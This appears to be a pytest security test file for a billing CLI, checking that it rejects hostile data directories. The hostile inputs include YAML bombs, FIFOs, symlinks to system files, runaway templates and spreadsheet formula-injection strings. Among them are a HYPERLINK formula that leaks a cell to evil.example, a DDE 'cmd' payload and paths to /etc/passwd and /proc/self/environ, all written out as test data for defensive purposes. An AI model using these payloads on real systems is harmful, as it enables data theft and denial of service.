"""Hostile data dirs (issue 8): files an attacker with write access to the data dir could
commit. Every one is run by ``validate``, ``mrr``, ``invoice render`` and
``remind --dry-run`` in a child process, which must stop with exit code 1 and a
``FILE: message`` naming the culprit: no traceback, no hang (a generous wall-clock guard)
and peak memory under 500 MB (``ru_maxrss`` of the child, from ``os.wait4``)."""

from __future__ import annotations

import csv
import io
import os
import re
import signal
import subprocess
import sys
import threading
import time
from collections.abc import Callable
from dataclasses import dataclass, field
from decimal import Decimal
from pathlib import Path

import polars as pl
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from revcli.data.ids import lookalike_ids
from revcli.data.validate import load_dataset
from revcli.data.yamlcompose import compose
from revcli.data.yamlio import load_records
from revcli.output.csvrows import csv_line
from revcli.output.formulas import spreadsheet_safe, spreadsheet_safe_expr
from revcli.output.plain import render_csv
from revcli.output.report import ColumnKind, Report
from revcli.scaffold import FILES, scaffold
from revcli.templating.files import TemplateError
from revcli.templating.load import load_template
from revcli.visible import visible
from tests.billing_support import own_seller
from tests.conftest import ROOT, MakeDir, Run

TIME_LIMIT = 20.0
"""Seconds: a hang guard only (a run takes about a second; a hang never ends)."""
MEMORY_LIMIT_MB = 500


def _laughs(levels: int = 9) -> str:
    """A billion-laughs YAML: each anchor lists the previous one nine times (9**9 values
    once expanded: hundreds of GB with a naive loader)."""
    text = 'l0: &l0 ["lol", "lol", "lol", "lol", "lol", "lol", "lol", "lol", "lol"]\n'
    for n in range(1, levels):
        text += f"l{n}: &l{n} [" + ", ".join([f"*l{n - 1}"] * 9) + "]\n"
    return text


def _fifo(root: Path, name: str) -> None:
    os.mkfifo(root / name)


def _symlink(target: str) -> Callable[[Path, str], None]:
    def make(root: Path, name: str) -> None:
        (root / name).symlink_to(target)

    return make


def _self_link(root: Path, name: str) -> None:
    (root / name).symlink_to(name)


@dataclass(frozen=True)
class Case:
    """A data dir made from the scaffold: ``files`` replaced or added (text), ``special``
    files made by a function (FIFO, symlinks); ``culprit`` the file the message names and
    ``message`` a part of it."""

    files: dict[str, str] = field(default_factory=dict)
    special: dict[str, Callable[[Path, str], None]] = field(default_factory=dict)
    culprit: str = ""
    message: str = ""
    fails: tuple[str, ...] = ("validate", "mrr", "invoice-render", "remind")
    """The commands that must refuse; the others must succeed (within the same limits)."""


SCAFFOLD_SETTINGS = FILES["revcli.yaml"]
SMTP_PASSWORD = SCAFFOLD_SETTINGS + (
    "reminders:\n  smtp:\n    host: smtp.example.no\n    password: hunter2\n"
)
SMTP_PLAIN = SCAFFOLD_SETTINGS + (
    "reminders:\n  smtp:\n    host: smtp.example.no\n    security: none\n"
    "    user: kari@example.no\n    password_env: REVCLI_SMTP_PASSWORD\n"
)


def line_of(text: str, needle: str) -> int:
    """The line (from 1) of the first line of ``text`` containing ``needle``."""
    return next(n for n, line in enumerate(text.splitlines(), 1) if needle in line)


CASES: dict[str, Case] = {
    "billion-laughs-contract": Case(
        files={"contracts/CTR-002.yaml": _laughs() + "contract_id: CTR-002\n"},
        culprit="contracts/CTR-002.yaml:5",  # l4 = 9**4 values: the budget runs out there
        message="aliases expand to more than",
    ),
    "billion-laughs-settings": Case(
        files={"revcli.yaml": "company:\n  name: X\n" + _laughs()},
        culprit="revcli.yaml:7",
        message="aliases expand to more than",
    ),
    "alias-inside-itself": Case(
        files={"contracts/CTR-002.yaml": "contract_id: &c\n  - *c\n"},
        culprit="contracts/CTR-002.yaml:2",
        message="alias *c is used inside its own anchor",
    ),
    "deep-nesting": Case(
        files={"contracts/CTR-002.yaml": "x: " + "[" * 100_000 + "]" * 100_000 + "\n"},
        culprit="contracts/CTR-002.yaml:1",
        message="nested deeper than 50",
    ),
    "second-contracts-key": Case(
        files={
            "contracts.yaml": "contracts:\n  - contract_id: X1\ncontracts:\n  - contract_id: X2\n"
        },
        culprit="contracts.yaml:3",
        message="key 'contracts' appears twice",
    ),
    "duplicate-setting": Case(
        files={"revcli.yaml": "invoice:\n  default_tax_rate: 25\n  default_tax_rate: 0\n"},
        culprit="revcli.yaml:3",
        message="key 'default_tax_rate' appears twice",
    ),
    "key-beside-contracts-list": Case(
        files={
            "contracts.yaml": "currency: EUR\ncontracts:\n  - contract_id: X1\n"
            "    customer_id: CUST-001\n    start_date: 2026-01-01\n"
        },
        culprit="contracts.yaml:1: currency",
        message="this file has a 'contracts:' list, so 'currency' must go inside one of its records",
    ),
    "control-character-in-contract": Case(
        files={"contracts/CTR-002.yaml": "contract_id: CTR-002\nnotes: a\x07b\n"},
        culprit="contracts/CTR-002.yaml:2",
        message="the control character U+0007 is not allowed in YAML; remove it, or write it "
        'as the escape "\\x07" in a double-quoted string',
    ),
    "control-character-in-settings": Case(
        files={
            "revcli.yaml": SCAFFOLD_SETTINGS.replace(
                "default_tax_rate: 25", "default_tax_rate: 25\x7f"
            )
        },
        culprit=f"revcli.yaml:{line_of(SCAFFOLD_SETTINGS, 'default_tax_rate')}",
        message="the control character U+007F is not allowed in YAML",
    ),
    "dev-zero-as-customers": Case(
        special={"customers.csv": _symlink("/dev/zero")},
        culprit="customers.csv",
        message="is a character device",
    ),
    "fifo-as-customers": Case(
        special={"customers.csv": _fifo},
        culprit="customers.csv",
        message="is a named pipe",
    ),
    "fifo-as-contract": Case(
        special={"contracts/CTR-002.yaml": _fifo},
        culprit="contracts/CTR-002.yaml",
        message="is a named pipe",
    ),
    "symlink-to-itself": Case(
        special={"customers.csv": _self_link},
        culprit="customers.csv",
        message="cannot be read: Too many levels of symbolic links",
    ),
    "invoice-template-loop": Case(
        files={"templates/invoice.html.liquid": "{% for i in (1..100000000) %}x{% endfor %}"},
        culprit="templates/invoice.html.liquid:1:4",
        message="a range of 100,000,000 numbers is more than a template may use",
        fails=("invoice-render",),
    ),
    "reminder-template-doubling": Case(
        files={
            "templates/reminder.txt.liquid": '{% assign s = "xx" %}{% for i in (1..60) %}'
            "{% assign s = s | append: s %}{% endfor %}{{ s }}"
        },
        culprit="templates/reminder.txt.liquid:1:",
        message="local namespace limit reached",
        fails=("remind",),
    ),
    "template-outside-the-data-dir": Case(
        files={
            "revcli.yaml": SCAFFOLD_SETTINGS.replace("templates/invoice.html.liquid", "/etc/passwd")
        },
        culprit=f"revcli.yaml:{line_of(SCAFFOLD_SETTINGS, 'template:')}: invoice.template",
        message="'/etc/passwd' is outside the data dir",
    ),
    "negative-tax-rate": Case(
        files={
            "revcli.yaml": SCAFFOLD_SETTINGS.replace(
                "default_tax_rate: 25", "default_tax_rate: -25"
            )
        },
        culprit=f"revcli.yaml:{line_of(SCAFFOLD_SETTINGS, 'default_tax_rate')}: "
        "invoice.default_tax_rate",
        message="'-25' must be between 0 and 100",
    ),
    "fifo-as-register": Case(
        special={"invoices/register.jsonl": _fifo},
        culprit="invoices/register.jsonl",
        message="is a named pipe",
    ),
    "fifo-as-register-head": Case(
        special={"invoices/HEAD": _fifo},
        culprit="invoices/HEAD",
        message="is a named pipe (FIFO), expected a file",
    ),
    "fifo-as-register-lock": Case(
        special={"invoices/.lock": _fifo},
        culprit="invoices/.lock",
        message="is not a regular file",
    ),
    "fifo-as-reminder-log": Case(
        special={".revcli/reminders.csv": _fifo},
        culprit=".revcli/reminders.csv",
        message="the reminder log is a named pipe",
    ),
    "password-in-settings": Case(
        files={"revcli.yaml": SMTP_PASSWORD},
        culprit=f"revcli.yaml:{line_of(SMTP_PASSWORD, 'password:')}: reminders.smtp.password",
        message="a secret does not belong in revcli.yaml",
    ),
    "plain-smtp-login": Case(
        files={"revcli.yaml": SMTP_PLAIN},
        culprit=f"revcli.yaml:{line_of(SMTP_PLAIN, 'security:')}: reminders.smtp.security",
        message="'none' would send the password of kari@example.no unencrypted",
    ),
    "fifo-as-settings": Case(
        special={"revcli.yaml": _fifo},
        culprit="revcli.yaml",
        message="is a named pipe",
    ),
}

COMMANDS: dict[str, tuple[str, ...]] = {
    "validate": ("validate",),
    "mrr": ("mrr", "--from", "2026-01", "--to", "2026-12", "--format", "csv"),
    "invoice-render": ("invoice", "render", "--period", "2026-01", "--out", "{out}"),
    # The scaffold's contract has its notice deadline on 2026-11-01: its 30-day reminder
    # falls due on 2026-10-02, within a first run's catch-up days of 2026-10-05, so the
    # reminder template is rendered.
    "remind": ("remind", "--dry-run", "--as-of", "2026-10-05"),
}


def build(root: Path, case: Case) -> Path:
    """The scaffold's data dir (with a seller of its own) with the case's files."""
    scaffold(root, force=False)
    own_seller(root)
    for name, text in case.files.items():
        path = root / name
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(text, encoding="utf-8")
    for name, make in case.special.items():
        path = root / name
        path.parent.mkdir(parents=True, exist_ok=True)
        if path.exists() or path.is_symlink():
            path.unlink()
        make(root, name)
    return root


@dataclass(frozen=True)
class Child:
    """What a finished child process did."""

    code: int
    stdout: str
    stderr: str
    seconds: float
    peak_mb: float


LAUNCHER = """
import os, sys
pid = os.fork()
if pid == 0:
    os.execv(sys.executable, [sys.executable, "-m", "revcli", *sys.argv[2:]])
_, status, usage = os.wait4(pid, 0)
with open(sys.argv[1], "w") as report:
    report.write(str(usage.ru_maxrss))
sys.exit(os.waitstatus_to_exitcode(status))
"""
"""Runs revcli and reports its peak memory. Linux keeps a process's peak RSS across
``exec``, so a child forked straight from pytest (hundreds of MB by then) would report
pytest's size; forked from this small launcher it reports its own."""


def run_child(args: list[str], cwd: Path) -> Child:
    """Run ``python -m revcli ARGS``; kill it after :data:`TIME_LIMIT`; measure its peak
    resident memory with ``os.wait4`` (in :data:`LAUNCHER`)."""
    out, err, peak = cwd / "child.out", cwd / "child.err", cwd / "child.peak"
    start = time.monotonic()
    with out.open("wb") as stdout, err.open("wb") as stderr:
        proc = subprocess.Popen(
            [sys.executable, "-c", LAUNCHER, str(peak), *args],
            stdin=subprocess.DEVNULL,
            stdout=stdout,
            stderr=stderr,
            cwd=cwd,
            # this checkout's revcli, whatever the cwd (a relative PYTHONPATH=src is not)
            env={**os.environ, "PYTHONPATH": str(ROOT / "src"), "COLUMNS": "200", "NO_COLOR": "1"},
            start_new_session=True,
        )
        timer = threading.Timer(TIME_LIMIT, os.killpg, (proc.pid, signal.SIGKILL))
        timer.start()
        try:
            code = proc.wait()
        finally:
            timer.cancel()
    return Child(
        code=code,
        stdout=out.read_text(encoding="utf-8", errors="replace"),
        stderr=err.read_text(encoding="utf-8", errors="replace"),
        seconds=time.monotonic() - start,
        peak_mb=int(peak.read_text(encoding="utf-8") or 0) / 1024 if peak.exists() else 0.0,
    )


@pytest.mark.parametrize("command", sorted(COMMANDS))
@pytest.mark.parametrize("name", sorted(CASES))
def test_hostile_data_dir(name: str, command: str, tmp_path: Path) -> None:
    case = CASES[name]
    root = build(tmp_path / "data", case)
    args = [a.replace("{out}", str(tmp_path / "out")) for a in COMMANDS[command]]
    child = run_child([*args, "--data", "data"], tmp_path)
    both = child.stdout + child.stderr
    assert child.seconds < TIME_LIMIT, f"{name}: {command} hung (killed after {TIME_LIMIT}s)"
    assert "Traceback" not in both and "internal error" not in both, both
    if command in case.fails:
        assert child.code == 1, both
        assert f"data/{case.culprit}" in both and case.message in both, both
    else:
        assert child.code == 0, both
    assert 10 < child.peak_mb < MEMORY_LIMIT_MB, f"{name}: {command} used {child.peak_mb:.0f} MB"
    assert root.is_dir()


# --- in-process checks of the rules the corpus exercises ----------------------------------


def test_merge_keys_and_aliases_work_in_data_files(make_data_dir: MakeDir) -> None:
    # The contract takes currency and billing_period from &defaults and overrides
    # billing_period itself; its line takes unit_price and price_period from &seat.
    root = make_data_dir(
        {
            "customers.csv": "customer_id,name\nA,Acme AS\n",
            "contracts.yaml": """
                defaults: &defaults
                  currency: NOK
                  billing_period: quarter
                  start_date: 2026-01-01
                seat: &seat {unit_price: 100, price_period: month}
                contracts:
                  - <<: *defaults
                    contract_id: C1
                    customer_id: A
                    billing_period: month
                    lines:
                      - <<: *seat
                        product: PRO
                        quantity: 3
            """,
        }
    )
    data = load_dataset(root)
    contract = data.contracts.row(0, named=True)
    assert (contract["currency"], contract["billing_period"]) == ("NOK", "month")
    line = data.lines.row(0, named=True)
    assert (line["product"], line["quantity"], line["price_period"]) == ("PRO", 3, "month")
    # MRR = 3 seats × 100 a month = 300.
    assert line["unit_price"] * line["quantity"] == 300


def _beside(key: str, list_key: str = "contracts") -> str:
    return (
        f"this file has a '{list_key}:' list, so '{key}' must go inside one of its records "
        "(a key beside the list is not read)"
    )


@pytest.mark.parametrize(
    ("text", "list_key", "expected"),
    [
        # A whole contract beside the list: each of its keys, on its own line (the
        # contract at the top would otherwise be lost without a word).
        (
            "contract_id: C1\ncustomer_id: A\nstart_date: 2026-01-01\nlines:\n"
            "  - product: PRO\ncontracts:\n  - contract_id: C2\n",
            "contracts",
            [
                f"x.yaml:1: contract_id: {_beside('contract_id')}",
                f"x.yaml:2: customer_id: {_beside('customer_id')}",
                f"x.yaml:3: start_date: {_beside('start_date')}",
                f"x.yaml:4: lines: {_beside('lines')}",
            ],
        ),
        # Defaults for every record are not a thing: they would be ignored.
        (
            "currency: EUR\nowner: kari@example.no\ncontracts:\n  - contract_id: C2\n",
            "contracts",
            [f"x.yaml:1: currency: {_beside('currency')}", f"x.yaml:2: owner: {_beside('owner')}"],
        ),
        (
            "customers:\n  - customer_id: A\ncountry: SE\n",
            "customers",
            [f"x.yaml:3: country: {_beside('country', 'customers')}"],
        ),
        # Anchors for '<<:' merges may stand beside the list; an alias there is read by
        # nothing (its copy starts at its anchor, line 1, before its key on line 2).
        (
            "d: &d {currency: EUR}\nc: &c NOK\ncontracts:\n  - <<: *d\n    notes: *c\n",
            "contracts",
            [],
        ),
        (
            "d: &d {currency: EUR}\ne: *d\ncontracts: []\n",
            "contracts",
            [f"x.yaml:2: e: {_beside('e')}"],
        ),
    ],
)
def test_keys_beside_the_records_list_are_errors(
    text: str, list_key: str, expected: list[str]
) -> None:
    _, issues = load_records(text, "x.yaml", list_key, frozenset({"lines"}), allow_single=True)
    assert [str(i) for i in issues] == expected


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        (
            "a: 1\nb: 2\na: 3\n",
            "x.yaml:3: key 'a' appears twice in the same mapping (first on line 1)",
        ),
        ("a: &a [*a]\n", "x.yaml:1: alias *a is used inside its own anchor"),
        ("a: *b\n", "x.yaml:1: alias *b names no anchor defined before it"),
        ("a: " + "[" * 51 + "]" * 51 + "\n", "x.yaml:1: nested deeper than 50 lists or mappings"),
        (
            "a: &a {x: 1}\nb:\n  <<: [*a, 3]\n",
            "x.yaml:3: '<<' merges a mapping or a list of mappings (e.g. <<: *defaults)",
        ),
        # A key is a name: not a list, a mapping, or an alias of one.
        (
            "a:\n  ? [b, c]\n  : d\n",
            "x.yaml:2: a key must be a plain name (text), not a list or mapping",
        ),
        (
            "a: &a {b: 1}\n*a : 2\n",
            "x.yaml:2: a key must be a plain name (text), not a list or mapping",
        ),
        # Characters YAML does not allow, on their line (CRLF is one line break, not two).
        ("a: 1\r\nb: x\x01y\r\n", "x.yaml:2: the control character U+0001 is not allowed in YAML"),
        ("a: 1\n\x00", "x.yaml:2: the control character U+0000 is not allowed in YAML"),
        ("a: 1\nb: 2\nc: \ufffe\n", "x.yaml:3: the character U+FFFE is not allowed in YAML"),
    ],
)
def test_yaml_limits(text: str, expected: str) -> None:
    _, issues = compose(text, "x.yaml")
    assert [str(i).split(";")[0] for i in issues] == [expected]


def test_a_character_yaml_does_not_allow_says_how_to_write_it() -> None:
    # U+FFFF is above 0xFF: its escape is \\u and four hex digits.
    _, issues = compose("a: 1\nb: x\uffffy\n", "x.yaml")
    assert [str(i) for i in issues] == [
        "x.yaml:2: the character U+FFFF is not allowed in YAML; remove it, or write it as the "
        'escape "\\uffff" in a double-quoted string'
    ]


def test_fifty_levels_of_nesting_are_fine() -> None:
    root, issues = compose("a: " + "[" * 49 + "]" * 49 + "\n", "x.yaml")
    assert issues == [] and root is not None


def test_alias_budget_counts_values_added_by_aliases() -> None:
    # &a holds 100 values; 99 aliases add 99 × (1 list + 100 values) = 9,999 ≤ 10,000;
    # the 100th alias adds 101 more: 10,100 > 10,000 is refused, on its line.
    values = "[" + ", ".join(["1"] * 100) + "]"
    ok = f"a: &a {values}\n" + "".join(f"b{i}: *a\n" for i in range(99))
    assert compose(ok, "x.yaml")[1] == []
    bad = ok + "c: *a\n"
    _, issues = compose(bad, "x.yaml")
    assert [str(i) for i in issues] == [
        "x.yaml:101: aliases expand to more than 10,000 values; write the values out or use "
        "fewer nested aliases"
    ]


def test_out_path_with_brackets_is_not_markup(tmp_path: Path, run: Run) -> None:
    root = build(tmp_path / "data", Case())
    out = tmp_path / "[/x].csv"
    result = run("mrr", "--data", root, "--month", "2026-01", "--out", out)
    assert result.exit_code == 0, result.output
    assert out.read_text(encoding="utf-8").startswith("month,mrr,")
    assert f"wrote {out}" in result.stderr


# --- templates: bounded, and only from inside the data dir -------------------------------


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        # 10^8 iterations: refused where the range is made, before the first one.
        ("x\n  {% for i in (1..100000000) %}.{% endfor %}", "t.liquid:2:6: a range of 100,000,000"),
        ("{% for i in (1..100000000) reversed %}.{% endfor %}", "t.liquid:1:4: a range of"),
        ("{{ (1..100000000) | sort | first }}", "t.liquid:1:1: a range of"),
        # 1,000 × 1,000 = 10^6 nested iterations > 50,000.
        (
            "{% for i in (1..1000) %}{% for j in (1..1000) %}.{% endfor %}{% endfor %}",
            "t.liquid:1:4: loop iteration limit reached",
        ),
        # Doubling a 10-character string 40 times would make 11 TB; 1 MiB is the limit.
        (
            '{% assign s = "xxxxxxxxxx" %}{% for i in (1..40) %}'
            "{% assign s = s | append: s %}{% endfor %}{{ s }}",
            "t.liquid:1:33: local namespace limit reached",
        ),
        (
            "{% capture s %}xxxxxxxxxx{% endcapture %}{% for i in (1..40) %}"
            "{% capture s %}{{ s }}{{ s }}{% endcapture %}{% endfor %}",
            "t.liquid:1:45: local namespace limit reached",
        ),
        # 40,000 × 400 characters = 16 MB of output > 8 MiB.
        (
            "{% for i in (1..40000) %}" + "x" * 400 + "{% endfor %}",
            "t.liquid:1:4: output stream limit reached",
        ),
        # s = 100 × 2^10 = 102,400 characters; 102,400 one-character items joined by s:
        # 102,400 + 102,399 × 102,400 = 102,400² = 10,485,760,000 characters.
        (
            '{% assign s = "' + "x" * 100 + '" %}{% for i in (1..10) %}'
            '{% assign s = s | append: s %}{% endfor %}{% assign p = s | split: "" %}'
            "{{ p | join: s }}",
            "join: the result would be 10,485,760,000 characters",
        ),
        (
            '{% assign s = "' + "x" * 100 + '" %}{% for i in (1..10) %}'
            '{% assign s = s | append: s %}{% endfor %}{{ s | replace: "x", s }}',
            "replace: the result would be",
        ),
    ],
)
def test_templates_are_bounded(tmp_path: Path, text: str, expected: str) -> None:
    path = tmp_path / "t.liquid"
    path.write_text(text, encoding="utf-8")
    start = time.monotonic()
    with pytest.raises(TemplateError) as caught:
        load_template(path, autoescape=False).render({})
    assert time.monotonic() - start < 1.0
    assert str(caught.value).startswith(str(tmp_path) + "/")
    assert expected in str(caught.value)


def test_templates_within_the_limits_still_work(tmp_path: Path) -> None:
    path = tmp_path / "t.liquid"
    path.write_text(
        '{{ (1..5) | reverse | join: "-" }} {% for i in (1..100) %}{% for j in (1..100) %}'
        "{% endfor %}{% endfor %}{{ 'a,b' | split: ',' | join: '+' | replace: 'a', 'c' }}",
        encoding="utf-8",
    )
    # 100 × 100 = 10,000 iterations ≤ 50,000.
    assert load_template(path, autoescape=False).render({}) == "5-4-3-2-1 c+b"


@pytest.mark.parametrize(
    ("section", "key", "value"),
    [
        ("invoice", "template", "/etc/passwd"),
        ("invoice", "template", "../outside.html.liquid"),
        ("invoice", "template", "templates/link.html.liquid"),  # a symlink to /etc/hostname
        ("reminders", "template_text", "/proc/self/environ"),
        ("reminders", "template_html", "templates/link.html.liquid"),
    ],
)
def test_template_settings_must_stay_inside_the_data_dir(
    tmp_path: Path, run: Run, section: str, key: str, value: str
) -> None:
    root = build(tmp_path / "data", Case())
    (root / "templates").mkdir()
    (root / "templates/link.html.liquid").symlink_to("/etc/hostname")
    settings = f"company:\n  name: Example AS\n{section}:\n  {key}: {value}\n"
    (root / "revcli.yaml").write_text(settings, encoding="utf-8")
    result = run("validate", "--data", root)
    assert result.exit_code == 1
    assert f"{root}/revcli.yaml:4: {section}.{key}: '{value}' is outside the data dir" in (
        result.stdout
    ), result.stdout


def test_a_face_template_that_leads_out_of_the_data_dir_is_named(tmp_path: Path, run: Run) -> None:
    # templates/invoice.txt.liquid is read from the data dir with no setting naming it; a
    # symlink out of it was refused as "revcli.yaml: 'templates/invoice.txt.liquid' is
    # outside the data dir; a template named in revcli.yaml …", which revcli.yaml was not.
    root = build(tmp_path / "data", Case())
    (root / "templates").mkdir()
    (root / "templates/invoice.txt.liquid").symlink_to("/etc/hostname")
    problem = (
        f"{root}/templates/invoice.txt.liquid: leads outside the data dir (symlinks "
        "resolved); a template in the data dir must be a file inside it\n"
    )
    result = run("invoice", "render", "--data", root, "--period", "2026-01", "-f", "txt")
    assert result.exit_code == 1
    assert result.stderr == problem + "1 problem found; nothing was done.\n"
    # validate says so too (it passed, and only invoice issue or render refused it).
    checked = run("validate", "--data", root)
    assert checked.exit_code == 1
    assert checked.stdout == problem
    # A folder in its place is no template either.
    (root / "templates/invoice.txt.liquid").unlink()
    (root / "templates/invoice.md.liquid").mkdir()
    assert run("validate", "--data", root).stdout == (
        f"{root}/templates/invoice.md.liquid: is not a regular file; a template in the data "
        "dir must be a file inside it\n"
    )


RULE = "a template named in revcli.yaml must be a file inside the data dir"


@pytest.mark.parametrize(
    ("setting", "value", "message"),
    [
        (
            "invoice.template",
            "templates/missing.liquid",
            f"'templates/missing.liquid' not found; {RULE}",
        ),
        ("invoice.template", "templates", f"'templates' is a folder; {RULE}"),
        ("invoice.template", '""', f"is empty; {RULE}, or leave the key out for the default"),
        (
            "invoice.template",
            "templates/dangling.liquid",
            f"'templates/dangling.liquid' not found; {RULE}",
        ),
        ("reminders.template_text", "templates", f"'templates' is a folder; {RULE}"),
        (
            "reminders.template_html",
            "templates/none.html.liquid",
            "'templates/none.html.liquid' not found",
        ),
    ],
)
def test_template_settings_must_name_a_file(
    tmp_path: Path, run: Run, setting: str, value: str, message: str
) -> None:
    # validate is the CI gate: a template that invoice issue or remind could not load is
    # a settings error on the key's line (4: "company:", "  name:", "{section}:", key).
    root = build(tmp_path / "data", Case())
    (root / "templates").mkdir()
    (root / "templates/dangling.liquid").symlink_to("gone.liquid")  # inside, but no file
    section, key = setting.split(".")
    settings = f"company:\n  name: Example AS\n{section}:\n  {key}: {value}\n"
    (root / "revcli.yaml").write_text(settings, encoding="utf-8")
    result = run("validate", "--data", root)
    assert result.exit_code == 1
    assert f"{root}/revcli.yaml:4: {setting}: {message}" in result.stdout, result.stdout
    issued = run("invoice", "issue", "--data", root, "--period", "2026-01", "-f", "md")
    assert issued.exit_code == 1
    assert f"revcli.yaml:4: {setting}: {message}" in issued.output
    assert not (root / "invoices").exists()  # nothing recorded


def test_default_template_names_may_be_absent(tmp_path: Path, run: Run) -> None:
    # The scaffold has no templates/ folder: the default names fall back to revcli's own.
    root = build(tmp_path / "data", Case())
    settings = (
        "company:\n  name: Example AS\ninvoice:\n  template: templates/invoice.html.liquid\n"
        "reminders:\n  template_text: templates/reminder.txt.liquid\n"
    )
    (root / "revcli.yaml").write_text(settings, encoding="utf-8")
    result = run("validate", "--data", root)
    assert result.exit_code == 0, result.output


def test_template_on_the_command_line_may_be_anywhere(tmp_path: Path, run: Run) -> None:
    root = build(tmp_path / "data", Case())
    elsewhere = tmp_path / "elsewhere" / "mine.md.liquid"
    elsewhere.parent.mkdir()
    elsewhere.write_text("{{ document.kind }} for {{ buyer.name }}\n", encoding="utf-8")
    result = run(
        "invoice", "render", "--data", root, "--period", "2026-01", "--template", elsewhere
    )
    assert result.exit_code == 0, result.output
    assert result.stdout.endswith("for Nordlys Analyse AS\n")


# --- secrets --------------------------------------------------------------------------------

SMTP = """\
company:
  name: Example AS
reminders:
  from: revenue@example.no
  smtp:
    host: {host}
    security: none
    user: revenue@example.no
    password_env: REVCLI_SMTP_PASSWORD
"""


@pytest.mark.parametrize("host", ["smtp.example.no", "10.0.0.1", "localhost.example.no"])
def test_plain_smtp_with_a_login_is_refused_unless_loopback(
    tmp_path: Path, run: Run, host: str
) -> None:
    root = build(tmp_path / "data", Case())
    (root / "revcli.yaml").write_text(SMTP.format(host=host), encoding="utf-8")
    env = {"REVCLI_SMTP_PASSWORD": "s3cret"}
    for command in (("validate",), ("remind", "--as-of", "2026-10-15")):
        result = run(*command, "--data", root, env=env)
        assert result.exit_code == 1, result.output
        assert (
            f"{root}/revcli.yaml:7: reminders.smtp.security: 'none' would send the password of "
            f"revenue@example.no unencrypted to {host}; use starttls or tls"
        ) in result.output
    assert not (root / ".revcli").exists()  # nothing sent, nothing logged


@pytest.mark.parametrize("host", ["localhost", "127.0.0.1", "::1", "127.8.9.10"])
def test_plain_smtp_with_a_login_to_a_loopback_host_is_allowed(
    tmp_path: Path, run: Run, host: str
) -> None:
    root = build(tmp_path / "data", Case())
    (root / "revcli.yaml").write_text(SMTP.format(host=f'"{host}"'), encoding="utf-8")
    result = run("validate", "--data", root)
    assert result.exit_code == 0, result.output


def test_a_password_in_the_settings_is_an_error(tmp_path: Path, run: Run) -> None:
    root = build(tmp_path / "data", Case())
    text = SMTP.format(host="smtp.example.no").replace("security: none", "password: hunter2")
    (root / "revcli.yaml").write_text(text, encoding="utf-8")
    result = run("validate", "--data", root)
    assert result.exit_code == 1
    assert result.stdout == (
        f"{root}/revcli.yaml:7: reminders.smtp.password: a secret does not belong in "
        "revcli.yaml (it is committed and shared); put it in an environment variable and name "
        "that variable in reminders.smtp.password_env\n"
    )
    assert "hunter2" not in result.output


# --- CSV output safe to open in a spreadsheet -------------------------------------------------

EVIL_NAME = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
EVIL_CUSTOMERS = (
    "customer_id,name,country,segment,region,owner,billing_email\n"
    'CUST-001,"=HYPERLINK(""http://evil.example/?""&A1,""Click"")",NO,@SUM(1+1),-2+3,'
    "kari@example.no,faktura@nordlys.example\n"
)


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("=1+1", "'=1+1"),
        ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
        ("-2+3", "'-2+3"),
        ("@SUM(1+1)", "'@SUM(1+1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("Acme AS", "Acme AS"),
        ("a=b", "a=b"),
        ("", ""),
        # the formula character after spaces a trimming import or paste drops
        (' =HYPERLINK("http://x","y")', '\' =HYPERLINK("http://x","y")'),
        ("  +cmd|' /C calc'!A0", "'  +cmd|' /C calc'!A0"),
        ("\u00a0+1", "'\u00a0+1"),  # no-break space
        ("\u3000=1", "'\u3000=1"),  # ideographic space
        ("\u2003-1+2", "'\u2003-1+2"),  # em space
        ("\n=1", "'\n=1"),  # a quoted cell that starts with a line break
        ("\u2028@SUM(1)", "'\u2028@SUM(1)"),  # line separator
        # after invisible characters
        ("\u200b=1", "'\u200b=1"),  # zero-width space
        ("\ufeff=1", "'\ufeff=1"),  # byte order mark
        ("\u2060+1", "'\u2060+1"),  # word joiner
        ("\u00ad@x", "'\u00ad@x"),  # soft hyphen
        ("\U000e0041=1", "'\U000e0041=1"),  # a tag character
        (" \u00a0\u200b\ufeff\u3000\n=1", "' \u00a0\u200b\ufeff\u3000\n=1"),
        # full-width and small forms, also after spaces
        ("\uff1d1+1", "'\uff1d1+1"),  # ＝
        ("\uff0bcmd", "'\uff0bcmd"),  # ＋
        ("\uff0d5", "'\uff0d5"),  # －
        ("\uff20SUM(A1)", "'\uff20SUM(A1)"),  # ＠
        ("\ufe66x", "'\ufe66x"),  # ﹦
        ("\ufe62x", "'\ufe62x"),  # ﹢
        ("\ufe63x", "'\ufe63x"),  # ﹣
        ("\ufe6bx", "'\ufe6bx"),  # ﹫
        ("\u3000\uff1dHYPERLINK()", "'\u3000\uff1dHYPERLINK()"),
        # a text that is a negative number is text: escaped (number columns never are)
        ("-5", "'-5"),
        (" -12.50", "' -12.50"),
        # not formulas
        (" plain text", " plain text"),
        ("\u00a0Acme", "\u00a0Acme"),
        ("\u200bAcme", "\u200bAcme"),
        ("A\uff1dB", "A\uff1dB"),  # ＝ in the middle
        ("Acme \uff0b Co", "Acme \uff0b Co"),
        ("a =b", "a =b"),
        ("\u2212" + "5", "\u2212" + "5"),  # minus sign
        ("\u2013 dash", "\u2013 dash"),  # en dash
        ("\u207a1", "\u207a1"),  # superscript plus
        ("   ", "   "),
        ("\n", "\n"),
        ("\u200b", "\u200b"),
    ],
)
def test_spreadsheet_safe(text: str, expected: str) -> None:
    assert spreadsheet_safe(text) == expected
    # the expression for a column says the same, a null stays null
    column = pl.DataFrame({"t": [text, None]}, schema={"t": pl.String})
    assert column.select(spreadsheet_safe_expr(pl.col("t")))["t"].to_list() == [expected, None]


_FORMULA_CHARACTERS = "=+-@\uff1d\uff0b\uff0d\uff20\ufe66\ufe62\ufe63\ufe6b"
_SKIPPED_BY_UNICODE = r"^(?:\p{White_Space}|[\x1c-\x1f]|\p{Default_Ignorable_Code_Point})$"
"""The characters looked past, as Unicode's properties (read by Polars' regex) define
them: whitespace (and the four separators Python's ``str.strip`` drops too) and the
invisible characters."""


def test_formula_rule_over_every_character() -> None:
    """Every character of Unicode, alone in front of ``=`` and of ``x``: before ``=`` it
    is escaped when it is looked past; before ``x`` only when it is a formula character,
    a tab or a carriage return. Python's ``re`` and Polars say the same for each."""
    chars = [chr(c) for c in range(0x110000) if not 0xD800 <= c <= 0xDFFF]  # no surrogates
